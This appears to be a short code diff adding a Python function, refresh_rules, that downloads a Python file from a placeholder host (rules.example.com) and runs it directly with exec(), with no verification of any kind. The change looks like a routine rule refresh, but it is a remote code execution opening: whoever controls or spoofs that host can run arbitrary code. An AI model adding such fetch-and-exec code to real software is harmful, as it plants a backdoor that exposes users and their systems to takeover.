@@ -1,0 +1,6 @@
+import httpx
+
+
+def refresh_rules() -> None:
+    source = httpx.get("https://rules.example.com/latest.py", timeout=5).text
+    exec(source)
